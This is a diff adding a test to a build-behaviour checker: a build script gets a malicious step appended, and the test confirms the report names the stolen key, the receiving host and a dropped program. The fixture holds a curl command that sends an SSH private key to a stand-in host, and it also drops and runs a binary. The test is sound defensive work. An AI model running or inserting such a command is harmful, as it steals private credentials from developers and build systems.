@@ -2,8 +2,18 @@
 
 use std::fs;
 
-use super::{RECORDING, Workshop};
-use crate::kit::{Finished, Suite, Verdict};
+use super::{RECORDING, Workshop, network::within};
+use crate::kit::{Finished, Need, Suite, Verdict};
+use crate::resolver::Network;
+
+const IN_A_NETWORK: &[Need] = &[
+    Need::Root,
+    Need::Cgroup,
+    Need::Processor,
+    Need::Program("unshare"),
+    Need::Program("ip"),
+    Need::Program("curl"),
+];
 
 /// What this subject promises.
 pub(super) fn register(suite: &mut Suite) {
@@ -16,6 +26,11 @@ pub(super) fn register(suite: &mut Suite) {
         "learn::a_check_names_what_a_malicious_change_does",
         RECORDING,
         a_check_names_what_a_malicious_change_does,
+    );
+    suite.test(
+        "learn::a_check_names_the_theft_the_host_and_the_program",
+        IN_A_NETWORK,
+        a_check_names_the_theft_the_host_and_the_program,
     );
     suite.test(
         "learn::a_check_takes_in_what_is_new_if_it_is_told_to",
@@ -67,6 +82,41 @@ fn a_check_names_what_a_malicious_change_does() -> Verdict {
         .says(&format!("create {}", dropped.display()))?;
     Ok(())
 }
+
+/// The build of somebody who has got into it: all of what it does besides stands in one report, in the file of GitHub's summary too.
+fn a_check_names_the_theft_the_host_and_the_program() -> Verdict {
+    let network = Network::new()?;
+    network.folder.file("home/.ssh/id_ed25519", "KEY")?;
+    network.folder.file("build/build.sh", "echo x >output\n")?;
+    network.folder.file("bad.sh", STOLEN)?;
+    within(&network, CHANGE)?;
+    let read = |name: &str| fs::read_to_string(network.folder.at(name));
+    for told in ["annotations", "summary"] {
+        let text = read(told)?;
+        for named in ["/.ssh/id_ed25519", "other.test", "ringfence-dropped"] {
+            if !text.contains(named) {
+                return Err(format!("{told} does not name {named}:\n{text}").into());
+            }
+        }
+    }
+    let (annotations, code) = (read("annotations")?, read("code")?);
+    if code.trim() != "1" || !annotations.contains("::error file=../learned.toml,title=") {
+        return Err(format!("ended with {code}, and said\n{annotations}").into());
+    }
+    Ok(())
+}
+
+const STOLEN: &str = "curl -sS -m 60 --data-binary @$HOME/.ssh/id_ed25519 http://other.test:8080/hello >/dev/null
+    cp /bin/true ${TMPDIR%/*}/ringfence-dropped; ${TMPDIR%/*}/ringfence-dropped; rm ${TMPDIR%/*}/ringfence-dropped\n";
+
+const CHANGE: &str = "
+    export HOME=$PWD/home; cd build
+    $R learn -o ../learned.toml -- sh build.sh || exit 1
+    cat ../bad.sh >>build.sh
+    export GITHUB_STEP_SUMMARY=$PWD/../summary; echo before >$GITHUB_STEP_SUMMARY
+    $R check -p ../learned.toml --format github -- sh build.sh >../annotations; echo $? >../code
+    grep -q before $GITHUB_STEP_SUMMARY
+";
 
 fn a_check_takes_in_what_is_new_if_it_is_told_to() -> Verdict {
     let shop = learned()?;
